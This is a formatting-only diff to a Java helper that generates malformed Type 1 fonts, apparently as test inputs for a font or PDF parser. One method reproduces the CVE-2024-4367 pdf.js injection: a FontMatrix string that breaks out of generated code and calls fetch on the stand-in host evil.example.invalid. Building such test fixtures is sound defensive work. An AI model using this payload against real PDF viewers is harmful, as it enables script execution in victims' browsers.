@@ -17,7 +17,8 @@ final class Type1 {
 
     /** CVE-2024-4367: pdf.js put the matrix together as the text of a program. */
     static String matrix() {
-        return font("[0.001 0 0 0.001 0 (0\\); fetch\\('http://evil.example.invalid/'\\))]", new byte[] {11}, glyph(), "1");
+        return font(
+                "[0.001 0 0 0.001 0 (0\\); fetch\\('http://evil.example.invalid/'\\))]", new byte[] {11}, glyph(), "1");
     }
 
     /** A subroutine that calls itself. */
@@ -35,16 +36,22 @@ final class Type1 {
     }
 
     private static String font(String matrix, byte[] subroutine, byte[] glyph, String count) {
-        String clear = "%!PS-AdobeFont-1.0: Font\n12 dict begin\n/FontName /Font def\n/FontType 1 def\n/PaintType 0 def\n/FontMatrix "
-                + matrix + " readonly def\n/FontBBox {0 0 500 500} readonly def\n/Encoding StandardEncoding def\ncurrentdict end\n"
-                + "currentfile eexec\n";
+        String clear =
+                "%!PS-AdobeFont-1.0: Font\n12 dict begin\n/FontName /Font def\n/FontType 1 def\n/PaintType 0 def\n/FontMatrix "
+                        + matrix
+                        + " readonly def\n/FontBBox {0 0 500 500} readonly def\n/Encoding StandardEncoding def\ncurrentdict end\n"
+                        + "currentfile eexec\n";
         String sub = latin(crypt(CHARSTRING, subroutine));
         String drawn = latin(crypt(CHARSTRING, glyph));
         String secret = "dup /Private 8 dict dup begin\n/RD {string currentfile exch readstring pop} executeonly def\n"
-                + "/ND {noaccess def} executeonly def\n/NP {noaccess put} executeonly def\n/lenIV 4 def\n/Subrs " + count + " array\ndup 0 "
-                + sub.length() + " RD " + sub + " NP\nND\n2 index /CharStrings 2 dict dup begin\n/.notdef " + drawn.length() + " RD "
-                + drawn + " ND\n/K " + drawn.length() + " RD " + drawn + " ND\nend\nend\nreadonly put\nmark currentfile closefile\n";
-        return clear + latin(crypt(EEXEC, secret.getBytes(StandardCharsets.ISO_8859_1))) + "0".repeat(512) + "\ncleartomark\n";
+                + "/ND {noaccess def} executeonly def\n/NP {noaccess put} executeonly def\n/lenIV 4 def\n/Subrs "
+                + count + " array\ndup 0 "
+                + sub.length() + " RD " + sub + " NP\nND\n2 index /CharStrings 2 dict dup begin\n/.notdef "
+                + drawn.length() + " RD "
+                + drawn + " ND\n/K " + drawn.length() + " RD " + drawn
+                + " ND\nend\nend\nreadonly put\nmark currentfile closefile\n";
+        return clear + latin(crypt(EEXEC, secret.getBytes(StandardCharsets.ISO_8859_1))) + "0".repeat(512)
+                + "\ncleartomark\n";
     }
 
     private static byte[] crypt(int key, byte[] plain) {
